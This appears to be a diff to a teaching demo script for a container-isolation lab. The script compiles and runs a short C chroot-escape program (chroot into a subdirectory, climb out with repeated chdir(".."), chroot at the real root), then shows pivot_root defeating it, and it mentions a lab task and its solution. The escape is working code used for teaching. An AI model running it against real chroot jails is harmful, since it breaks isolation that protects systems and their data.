@@ -22,7 +22,7 @@ ESCAPE_C = r"""
 #include <sys/stat.h>
 #include <unistd.h>
 int main(int argc, char **argv) {
-    mkdir("/.x", 0700);
+    mkdir("/.x", 0700);                                         /* a directory below our root */
     if (chroot("/.x") != 0) { perror("chroot"); return 1; }   /* root moves down, cwd stays up */
     for (int i = 0; i < 100; i++) chdir("..");                 /* nothing stops us now */
     if (chroot(".") != 0) { perror("chroot ."); return 1; }    /* the real top is our root */
@@ -49,7 +49,7 @@ def run(demo) -> None:
     demo.mc("run", "--rm", "--isolation", "chroot", "busybox", "cat", str(secret))
 
     demo.step("The escape: chroot down, climb up with .., chroot at the top")
-    demo.print(ESCAPE_C.strip())
+    demo.print(key_lines(ESCAPE_C))
     (work / "escape.c").write_text(ESCAPE_C)
     demo.sh(f"gcc -static -O2 -o {work}/escape {work}/escape.c", display="gcc -static -O2 -o escape escape.c",
             check=True)
@@ -71,6 +71,12 @@ def run(demo) -> None:
     demo.say("""pivot_root made the image the root *mount* of the container's mount namespace, and
         the old root was unmounted (umount -l). The climb ends at the container's own /: there
         is nothing above it any more. `minicontainer run --explain` shows the step.""")
+
+
+def key_lines(source: str) -> str:
+    """The three lines that make the escape, not the whole program: writing it is lab 01's task 2."""
+    lines = [line.strip() for line in source.splitlines() if "/*" in line]
+    return "\n    …\n".join(lines) + "\n(the whole program is lab 01's task 2; its solution is in labs/01-chroot/solution/)"
 
 
 def build_image(demo, work: Path) -> str:
